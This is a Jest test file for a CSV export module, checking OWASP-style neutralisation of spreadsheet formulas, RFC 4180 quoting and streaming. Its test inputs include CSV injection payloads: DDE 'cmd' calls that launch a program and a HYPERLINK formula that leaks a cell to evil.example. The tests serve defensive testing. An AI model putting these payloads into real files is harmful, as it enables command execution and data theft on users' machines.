import { csvCell, csvLine, csvStream, toCsv } from './csv-export';

describe('CSV cells', () => {
  it.each([
    // OWASP CSV Injection: prepend ', escape double quotes, wrap the cell in double quotes.
    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
    ],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    expect(csvCell('Lopez, Maria')).toBe('"Lopez, Maria"');
    expect(csvCell('12 "Elm" St')).toBe('"12 ""Elm"" St"');
    expect(csvCell('line one\r\nline two')).toBe('"line one\r\nline two"');
  });

  it('leaves harmless text as it is apart from the quotes, and empty values empty', () => {
    expect(csvCell('Maria Lopez')).toBe('"Maria Lopez"');
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvCell(12)).toBe('"12"');
  });

  it('ends every row with CRLF', () => {
    expect(csvLine(['a', null, 'b'])).toBe('"a",,"b"\r\n');
  });
});

describe('CSV documents', () => {
  const columns = [
    { header: 'name', value: (r: { name: string }) => r.name },
    { header: 'len', value: (r: { name: string }) => r.name.length },
  ];

  it('starts with a byte-order mark and the header', () => {
    expect(toCsv(columns, [{ name: 'Zoë' }])).toBe('\uFEFF"name","len"\r\n"Zoë","3"\r\n');
  });

  it('streams the same document page by page', async () => {
    const pages = async function* () {
      yield [{ name: 'a' }, { name: 'bb' }];
      yield [];
      yield [{ name: 'ccc' }];
    };
    let streamed = '';
    for await (const chunk of csvStream(columns, pages())) streamed += chunk;
    expect(streamed).toBe(toCsv(columns, [{ name: 'a' }, { name: 'bb' }, { name: 'ccc' }]));
  });
});
